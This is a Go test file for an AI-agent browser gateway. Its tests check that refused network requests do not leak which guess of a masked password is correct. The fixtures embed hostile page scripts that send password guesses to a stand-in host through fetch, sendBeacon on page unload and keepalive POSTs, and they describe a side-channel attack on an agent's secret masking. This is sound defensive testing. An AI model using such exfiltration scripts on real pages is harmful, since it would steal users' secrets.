package main

import (
	"strings"
	"testing"
	"time"
)

// The list of refused requests every reply ends with is no oracle: a
// hostile page in scope, off the secret's domains, sends its guesses of a
// secret, the wrong one and the right one, to a host the scope refuses,
// while the agent is on the secret's site; the refusals come back alike.

// refusalsAlike fails the test unless the refusals listed in replies show
// the two guesses alike: both as written, or both withheld.
func refusalsAlike(t *testing.T, replies, right string) {
	t.Helper()
	for _, masked := range []string{"[secret NET_PASSWORD]", "[part of secret NET_PASSWORD]"} {
		if strings.Contains(replies, masked) {
			t.Fatalf("a refusal came back masked for the secret: the page learns which guess was right:\n%s", replies)
		}
	}
	if strings.Contains(replies, "g="+wrongGuess) != strings.Contains(replies, "g="+right) {
		t.Fatalf("one guess is shown as written and the other is not:\n%s", replies)
	}
}

// refusalsUntil calls list_tabs until the replies so far list want
// refused requests to outside.example (or withheld ones), and gives them.
func refusalsUntil(t *testing.T, call func(string, map[string]any) string, replies string, want int) string {
	t.Helper()
	count := func() int {
		return strings.Count(replies, "outside.example/?g=") + strings.Count(replies, "withheld: it may hold")
	}
	for deadline := time.Now().Add(30 * time.Second); count() < want; time.Sleep(100 * time.Millisecond) {
		if time.Now().After(deadline) {
			t.Fatalf("the replies list %d of the %d refused guesses:\n%s", count(), want, replies)
		}
		replies += call("list_tabs", nil)
	}
	return replies
}

// onHostilePage starts a daemon whose secret is password, serves
// guessSites with a hostile page that runs script, and takes the
// session's tab to it.
func onHostilePage(t *testing.T, password, script string) (call func(string, map[string]any) string, site string) {
	t.Helper()
	d := launchHTTP(t, nil, []string{"BROWSERGATE_E2E_NETSECRET=" + password}, networkLogsManifest, "")
	site, evil := guessSites(t, servePage(func() string {
		return `<!doctype html><title>Hostile</title><p id=ready>ready</p><script>` + script + `</script>`
	}))
	call = allowedCaller(t, d.connect(t, "alice-token"))
	call("navigate", map[string]any{"url": evil + "/"})
	return call, site
}

// TestAnotherTabsRefusedGuessesAreNoOracle: the hostile page in the
// session's first tab sends its guesses to a host outside the scope while
// the agent works on the secret's site in another tab (no secret typed).
// A refusal is masked for the document that made it, not for the tab the
// agent is on: the replies there list both guesses as written.
func TestAnotherTabsRefusedGuessesAreNoOracle(t *testing.T) {
	t.Parallel()
	const password = "Rev5-Bg-T4b-2291"
	d := launchHTTP(t, nil, []string{"BROWSERGATE_E2E_NETSECRET=" + password}, networkLogsManifest, "")
	site, evil, goAhead, sent := guessSitesOnCue(t, `await Promise.all(['`+wrongGuess+`', '`+password+`'].map(g => fetch('http://outside.example/?g=' + g).catch(() => 0)));`)
	call := allowedCaller(t, d.connect(t, "alice-token"))
	call("navigate", map[string]any{"url": evil + "/"})
	replies := call("new_tab", map[string]any{"url": site + "/"})
	goAhead.Store(true)
	awaitCue(t, sent, "the hostile tab did not send its guesses")
	replies = refusalsUntil(t, call, replies, 2)
	refusalsAlike(t, replies, password)
	if !strings.Contains(replies, "g="+password) {
		t.Errorf("the hostile page's own refusals are not shown as written:\n%s", replies)
	}
}

// TestAnotherTabsGuessesWhileTheSecretIsHeldAreWithheld: the hostile
// page in the session's first tab keeps sending its guesses to a host
// outside the scope while the agent types the secret on its site in
// another tab. Once the binding holds the secret, a refusal of a page not
// masked for it is withheld whole (in clear its URL could hold the value;
// masked, the guesses would tell): the replies that follow list both
// guesses alike, withheld.
func TestAnotherTabsGuessesWhileTheSecretIsHeldAreWithheld(t *testing.T) {
	t.Parallel()
	const password = "Rev5-H3ld-T4b-6620"
	call, site := onHostilePage(t, password, `setInterval(() => { for (const g of ['`+wrongGuess+`', '`+password+`']) fetch('http://outside.example/?g=' + g).catch(() => 0); }, 100);`)
	call("new_tab", map[string]any{"url": site + "/"})
	call("type_text", map[string]any{"selector": "#pw", "text": "<NET_PASSWORD>"})
	replies := refusalsUntil(t, call, "", 4)
	refusalsAlike(t, replies, password)
	if strings.Contains(replies, "g="+password) || strings.Contains(replies, "g="+wrongGuess) {
		t.Errorf("a refusal of a page not masked for the secret the binding held is shown:\n%s", replies)
	}
}

// TestGuessesSentAsTheAgentLeavesForTheSecretsSiteAreNoOracle: the
// hostile page sends beacons with its guesses to a host outside the scope
// as it is unloaded, when the agent takes the tab from it to the secret's
// site (no secret typed). The browser may report them after the secret's
// page has committed in the same frame: a refusal is masked for the
// document that made it, never for the pages the call was on, and one
// the frame's new or old document may have made is withheld when the two
// are not masked for the same secrets. The replies show both alike.
func TestGuessesSentAsTheAgentLeavesForTheSecretsSiteAreNoOracle(t *testing.T) {
	t.Parallel()
	const password = "Rev5-Unl0ad-7714"
	call, site := onHostilePage(t, password, `addEventListener('pagehide', () => {
  for (const g of ['`+wrongGuess+`', '`+password+`']) navigator.sendBeacon('http://outside.example/?g=' + g, 'x');
});`)
	call("wait_for", map[string]any{"selector": "#ready"})
	replies := call("navigate", map[string]any{"url": site + "/"})
	replies = refusalsUntil(t, call, replies, 2)
	refusalsAlike(t, replies, password)
}

// TestGuessesRefusedAfterTheirTurnAreNoOracle: with pacing on, the
// hostile page's keepalive fetches to its own host (in scope), sent as the
// agent takes the tab to the secret's site, wait their turn; the agent
// types the secret meanwhile, and the binding refuses them when their turn
// comes, more than 2 s after the site's page committed. They are credited
// to the page that sent them, as it was when they were paused, never to the
// site's: no guess comes back masked.
func TestGuessesRefusedAfterTheirTurnAreNoOracle(t *testing.T) {
	t.Parallel()
	const password = "R6-P4ced-L4te-3391"
	manifest := strings.Replace(networkLogsManifest, "[browser.scope]\n", "[browser.scope]\nrequests_per_second_per_host = 0.25\n", 1)
	if manifest == networkLogsManifest {
		t.Fatal("no [browser.scope] to pace")
	}
	d := launchHTTP(t, nil, []string{"BROWSERGATE_E2E_NETSECRET=" + password}, manifest, "")
	site, evil := guessSites(t, servePage(func() string {
		return `<!doctype html><title>Hostile</title><p id=ready>ready</p><script>
addEventListener('pagehide', () => {
  for (let i = 0; i < 4; i++) fetch('/k' + i + '?g=` + wrongGuess + `&g=` + password + `', {keepalive: true, method: 'POST', body: 'x'}).catch(() => 0);
});
</script>`
	}))
	cs := d.connect(t, "alice-token")
	call := allowedCaller(t, cs)
	call("navigate", map[string]any{"url": evil + "/"})
	call("wait_for", map[string]any{"selector": "#ready"})
	replies := call("navigate", map[string]any{"url": site + "/"})
	replies += call("type_text", map[string]any{"selector": "#pw", "text": "<NET_PASSWORD>"})
	for i := 0; i < 100 && strings.Count(replies, "/k") < 3 && strings.Count(replies, "withheld: it may") < 3; i++ {
		time.Sleep(200 * time.Millisecond)
		out, _ := callText(t, cs, "e2e.list_tabs", nil)
		replies += out
	}
	t.Logf("replies:\n%s", replies)
	if strings.Contains(replies, `\x5bsecret NET_PASSWORD\x5d`) || strings.Contains(replies, "[secret NET_PASSWORD]") {
		t.Fatalf("a guess of the old page, refused after its turn, is masked for the secret's site (an oracle)")
	}
}
